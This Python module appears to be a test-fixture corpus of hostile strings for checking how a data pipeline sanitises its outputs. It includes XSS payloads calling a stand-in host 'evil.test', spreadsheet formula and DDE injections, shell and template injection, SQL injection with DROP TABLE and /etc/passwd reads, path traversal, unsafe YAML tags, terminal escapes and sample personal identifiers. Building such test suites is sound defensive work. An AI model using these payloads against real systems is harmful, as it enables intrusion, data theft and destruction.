"""Texts that attack: one corpus, by what they attack, for every output and every place that takes a text."""

import base64

RUN = "window.__pwned=1"
_DATA = base64.b64encode(f"<script>{RUN}</script>".encode()).decode()

MARKUP = (
    f"<script>{RUN}</script>",
    f"</title></td></tr></table><script>{RUN};alert(1)</script>",
    f"--></style><script>{RUN}</script><!--<style>",
    f"<img src=x onerror='{RUN};fetch(`https://evil.test/`)'>",
    f"\"'><svg onload={RUN}><script>{RUN}</script></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}></style></mglyph></table></mtext></math>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'></noscript>",
    f"<a href='jav&#x09;ascript:{RUN}' onmouseover='{RUN}'>b</a>",
    f"<iframe src='javascript:parent.{RUN}' srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<form action=https://evil.test/><button formaction='javascript:{RUN}' autofocus onfocus={RUN}>go</button></form>",
    f"<details open ontoggle={RUN}><summary>s</summary></details><body onload={RUN}>",
    f"<object data='data:text/html;base64,{_DATA}'></object><embed src=https://evil.test/e>",
    "<meta http-equiv=refresh content='0;url=https://evil.test/'><base href=https://evil.test/>",
    f'" onmouseover="{RUN}" x="\' onfocus=\'{RUN}\' autofocus',
    f"&lt;script&gt;{RUN}&lt;/script&gt; &#60;script&#62; ＜script＞{RUN}＜/script＞",
    f"<scr\u0000ipt>{RUN}</scr\u0000ipt>",
)
STYLES = (
    "<style>@import url(https://evil.test/s.css); body{background:url(https://evil.test/b.png)}</style>",
    "<p style='background:url(https://evil.test/p.png);position:fixed;inset:0'>p</p>",
    "<link rel=stylesheet href=https://evil.test/l.css>",
    f"<svg><use href='data:image/svg+xml;base64,{_DATA}#x'/><set attributeName=href to=javascript:{RUN} /></svg>",
    "}</style><style>*{color:red;background:url(https://evil.test/c)}",
    f"x;background:url(javascript:{RUN});behavior:url(#default#time2)",
)
MARKDOWN = (
    f"[x](javascript:{RUN}) ![y](https://evil.test/i.png)",
    f"[z](data:text/html;base64,{_DATA}) <https://evil.test/>",
    f"![a](x 'onerror={RUN}') [r][1]\n\n[1]: https://evil.test/ \"t\"",
    f"```html\n<script>{RUN}</script>\n``` <!-- {RUN} -->",
    "# head\n| a | b |\n|---|---|\n> quote **bold** `code` ~~x~~",
    "$\\href{https://evil.test/}{x}$ $\\frac{x}{$ $x$ \\(y\\) $$z$$",
)
_BEFORE = ("", "\n", "a\n", "\t", "\r", "\ufeff", "\u200b", " ", "\u3000", "\x1b")
FORMULAS = (
    *(f"{before}=cmd|' /C calc'!A0" for before in _BEFORE),
    *(f"{sign}cmd|' /C calc'!A0" for sign in "+-@＝＋－＠﹢"),
    '=HYPERLINK("https://evil.test/?"&A1,"x")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=IMPORTXML(CONCAT("https://evil.test/",A1),"//a")',
    "'=1+1",
    '";=1+1;"',
    'DDE ("cmd";"/C calc";"x")',
)
TERMINAL = (
    "\x1b[2J\x1b[31mred\x1b[0m",
    "\x1b]8;;https://evil.test/\x07click\x1b]8;;\x07",
    "\x1b]0;title\x07\x1b]52;c;cm0gLXJm\x07",
    "\x9b31mred\x9d0;t\x9c",
    "a\rb\x08\x08c\x7f\x0b\x0c",
    '\x1bP$q"p\x1b\\\x1b[6n\x1bc',
    "\u2028line\u2029\x85next",
    "[red]bold[/red] [link=https://evil.test/]x[/link] :boom: \\[x]",
)
DIRECTIONS = (
    "\u202egnp.exe\u202c",
    "\u2066a\u2067b\u2068c\u2069",
    "\u200fabc\u200e \u061c1",
    "в001 раураl \u0130\u0131 ﬁ Å",
    "a\u200bb\u2060c\ufeffd\u00ade\u034f",
    "Z\u0351\u036b\u0343a\u0363l\u034fg\u0358o" * 20,
    "\U000e0041\U000e0042 \ufff9x\ufffay\ufffb",
)
TEMPLATES = (
    "{{ 7*7 }} {% raw %} {{ ''.__class__.__mro__ }} {# x #}",
    "{% include '/etc/passwd' %}{% for x in y %}",
    "${7*7} #{7*7} <%= 7*7 %> @(7*7) *{7*7}",
    "%s %(x)s %n {0} {x} {0.__class__} {{x}} %",
    "$HOME $(id) `id` ; rm -rf / | cat && true",
    "__import__('os').system('id')",
)
PATHS = (
    "../../../../etc/passwd",
    "..\\..\\windows\\system32",
    "/etc/passwd",
    "C:\\x\\y",
    "file:///etc/passwd",
    "a\x00b.csv",
    "CON",
    "nul.txt",
    "aux ",
    ".",
    "..",
    "~root",
    "%2e%2e%2f",
    "x" * 300,
    "very long " + "𝒙中A" * 700,
    "-rf",
    "*.parquet",
    "[a-z]?",
    "a/b:c",
)
SEPARATORS = (
    'a,b;c\td|e"f""g\'h',
    'ends with a quote"',
    '"',
    '""',
    "a\nb\r\nc\rd",
    ",,,",
    "\\",
    "\\N",
    "#REF!",
    "NULL",
    "nan",
    "true",
    "1e999",
    "007",
    "2024-02-30",
    "a\\\nb",
)
DATABASES = (
    "'; DROP TABLE complaints; --",
    '"; DROP TABLE raw; --',
    "x' OR '1'='1",
    "') UNION SELECT content FROM read_text('/etc/passwd') --",
    "; ATTACH '/tmp/x' AS y; COPY (SELECT 1) TO '/tmp/x'",
    "/* x */ ' || (SELECT version()) || '",
)
YAML = (
    "!!python/object/apply:os.system [id]",
    "a: b",
    "- x",
    "&a *a <<: *b",
    "# comment",
    "|\n  x",
    "%YAML 1.1",
    "---\n...",
    "{a: b}",
    "? x",
    "no",
    "'",
    "tables:\n  complaints: {}",
)
PERSONAL = (
    "call 13812345678",
    "Tel.138-1234-5678",
    "110101199003074514",
    "acct 6222 0212 3456 7890 128",
    "wang.wei@bank.cn",
    "王伟@bank.cn",
    "１３８１２３４５６７８",
)
SECRETS = ("13812345678", "138-1234-5678", "110101199003074514", "6222 0212 3456 7890 128", "wang.wei@bank.cn",
           "王伟@bank.cn", "１３８１２３４５６７８")  # fmt: skip

ATTACKS = {
    "markup": MARKUP,
    "styles": STYLES,
    "markdown": MARKDOWN,
    "formulas": FORMULAS,
    "terminal": TERMINAL,
    "directions": DIRECTIONS,
    "templates": TEMPLATES,
    "paths": PATHS,
    "separators": SEPARATORS,
    "databases": DATABASES,
    "yaml": YAML,
    "personal": PERSONAL,
}
EVERY = tuple(dict.fromkeys(text for texts in ATTACKS.values() for text in texts))
